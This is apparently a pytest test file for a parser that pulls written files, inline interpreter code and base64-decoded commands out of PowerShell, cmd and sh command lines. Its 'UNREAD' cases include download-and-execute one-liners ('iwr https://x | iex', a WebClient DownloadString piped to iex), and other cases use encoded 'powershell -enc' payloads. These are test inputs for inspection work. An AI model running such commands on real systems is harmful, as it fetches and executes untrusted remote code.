from __future__ import annotations

import pytest

from proxy.extract.shell import shell_parts

Row = tuple[str, str | None, str | None, str]
OUTSIDE = "text from outside goes to an interpreter"
UNCLOSED = "a shell construct is not closed"


def rows(command: str, dialect: str) -> list[Row]:
    shell = shell_parts(command, dialect=dialect)
    for part in shell.parts:
        for run in part.stretches:
            assert part.text[run.start : run.start + run.length] == command[run.outer : run.outer + run.length]
    return [(part.origin, part.language, part.path, part.text) for part in shell.parts]


def file(text: str, path: str = "a.py") -> list[Row]:
    return [("file", "python", path, text)]


POWERSHELL = [
    pytest.param("@'\nx 'y' `n $z\n'@ | Set-Content a.py", file("x 'y' `n $z\n"), id="here-string"),
    pytest.param("@'\r\nx\r\ny\r\n'@ | Out-File -FilePath a.py -Encoding utf8\r\n", file("x\r\ny\n"), id="crlf"),
    pytest.param('@"\nx `"y`" $z\n"@ > a.py', file('x "y" $z\n'), id="expanding"),
    pytest.param('@"\nx "y"\n"@ >> a.py', file('x "y"\n'), id="expanding-plain"),
    pytest.param("@'\n'@ > a.py", [], id="empty"),
    pytest.param("$x = @'\nx\n'@\nSet-Content -Path a.py -Value $x -Force", file("x\n"), id="variable"),
    pytest.param("$x = 'x'; $x += 'y'; ${x} | sc a.py; $env:A = 'b'; $env:A > b.py", [*file("xy\n"), *file("b\n", "b.py")], id="appended-variable"),
    pytest.param("Set-Content a.py 'it''s'; Add-Content a.py \"a`n`tb\"\"c`$d\"", file("it's\na\n\tb\"c$d\n"), id="quotes"),
    pytest.param("'x' |\n Out-File a.py; 'y' | Out-File -Append a.py", file("x\ny\n"), id="append"),
    pytest.param("Tee-Object -FilePath a.py -InputObject 'x'", file("x\n"), id="tee"),
    pytest.param("New-Item -Path . -Name a.py -Value 'x'", file("x\n"), id="new-item"),
    pytest.param("Set-Content; Set-Content -Path; New-Item -ItemType Directory a; [IO.File]::WriteAllText(", [], id="nothing"),
    pytest.param("[IO.File]::WriteAllText('a.py', 'x'); [System.IO.File]::AppendAllText('a.py', 'y')", file("x\ny\n"), id="methods"),
    pytest.param("python -c 'x'; & 'python' -c y; & python.exe -c `\n z 2>&1 2> e", [("inline", "python", None, code) for code in "xyz"], id="inline"),
    pytest.param("python a.py # -c x\n<# python -c y #>\nif (a) { python -c z }", [("inline", "python", None, "z")], id="comments"),
    pytest.param("ec`ho a && b || c; d`", [], id="operators"),
    pytest.param("iex 'ls'; 'dir' | Invoke-Expression", [("inline", "powershell", None, "ls"), ("inline", "powershell", None, "dir\n")], id="iex"),
    pytest.param("iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('bABzAA==')))", [("decoded", "powershell", None, "ls")], id="decoded"),
    pytest.param("$b = [Convert]::FromBase64String($c); [IO.File]::WriteAllBytes('a.py', [Convert]::FromBase64String('eA=='))", [("decoded", "python", "a.py", "x\n")], id="decoded-file"),
    pytest.param("bash -c 'ls'; cmd /c dir", [("inline", "bash", None, "ls"), ("inline", "batch", None, "dir")], id="others"),
    pytest.param(">", [], id="redirection-alone"),
    pytest.param("> a.py", [], id="redirection-of-nothing"),
]  # fmt: skip


@pytest.mark.parametrize(("command", "expected"), POWERSHELL)
def test_powershell(command: str, expected: list[Row]) -> None:
    assert expected == rows(command, "powershell")


BATCH = [
    pytest.param("echo x = 1> a.py\r\necho y >> a.py\r\n", file("x = 1\ny \n"), id="echo"),
    pytest.param('@echo off\nrem echo a > b.py\n:: x\nECHO print("a>b") > a.py', file('print("a>b") \n'), id="quotes-stay"),
    pytest.param("(echo a & echo b^&c ^) & echo.) > a.py", file("a \nb&c ) \n\n"), id="group"),
    pytest.param("echo %A% 100%% > a.py", file("%A% 100% \n"), id="percent"),
    pytest.param('python -c "print(\\"x\\")" && node -e "y" 2>&1 2>nul | sh', [("inline", "python", None, 'print("x")'), ("inline", "javascript", None, "y")], id="inline"),
    pytest.param("python ^\n -c x", [("inline", "python", None, "x")], id="continued"),
    pytest.param("echo x | python\ntype a > b\nset A=b\nif a ( echo )", [("inline", "python", None, "x \n")], id="pipe"),
    pytest.param(") ^", [], id="stray"),
]  # fmt: skip


@pytest.mark.parametrize(("command", "expected"), BATCH)
def test_cmd(command: str, expected: list[Row]) -> None:
    assert expected == rows(command, "cmd")


SHELL = [
    pytest.param("@'\nx\n'@ | Set-Content a.py", file("x\n"), id="powershell-given-as-sh"),
    pytest.param("pwsh -NoProfile -Command \"Set-Content a.py 'x'\"", [("inline", "powershell", None, "Set-Content a.py 'x'"), *file("x\n")], id="command"),
    pytest.param("powershell.exe -Comm ls a; pwsh -c ls", [("inline", "powershell", None, "ls a"), ("inline", "powershell", None, "ls")], id="abbreviated"),
    pytest.param("powershell -enc bABzAA==", [("decoded", "powershell", None, "ls")], id="encoded"),
    pytest.param("powershell -e; powershell -c; powershell -File a.ps1 < x; cmd; cmd /k; pwsh", [], id="nothing"),
    pytest.param("echo ls | pwsh -Command -", [("inline", "powershell", None, "ls\n")], id="read"),
    pytest.param("cmd /c 'echo x> a.py'", [("inline", "batch", None, "echo x> a.py"), *file("x\n")], id="cmd"),
]  # fmt: skip


@pytest.mark.parametrize(("command", "expected"), SHELL)
def test_windows_shells_in_another(command: str, expected: list[Row]) -> None:
    assert expected == rows(command, "sh")


UNREAD = [
    pytest.param("iwr https://x | iex", "powershell", OUTSIDE, id="download"),
    pytest.param("iex (New-Object Net.WebClient).DownloadString('https://x')", "powershell", OUTSIDE, id="download-argument"),
    pytest.param("iex (irm x); iex (irm y)", "powershell", OUTSIDE, id="twice"),
    pytest.param("iex $x", "powershell", OUTSIDE, id="variable"),
    pytest.param("powershell -e €", "sh", OUTSIDE, id="encoded"),
    pytest.param("powershell -e A", "sh", OUTSIDE, id="cut"),
    pytest.param("@'\nx", "powershell", UNCLOSED, id="here-string"),
    pytest.param("'x", "powershell", UNCLOSED, id="single"),
    pytest.param('"x', "powershell", UNCLOSED, id="double"),
    pytest.param('python -c "x', "cmd", UNCLOSED, id="cmd-quote"),
    pytest.param("( echo a", "cmd", UNCLOSED, id="cmd-group"),
    pytest.param("(" * 50, "cmd", "a shell text is nested too deep; " + UNCLOSED, id="cmd-deep"),
    pytest.param("a\n" * 100_001, "cmd", "a shell text has too many words", id="cmd-long"),
    pytest.param("a\n" * 100_001, "powershell", "a shell text has too many words", id="powershell-long"),
]  # fmt: skip


@pytest.mark.parametrize(("command", "dialect", "reason"), UNREAD)
def test_what_is_not_known_is_told(command: str, dialect: str, reason: str) -> None:
    assert reason == shell_parts(command, dialect=dialect).unread
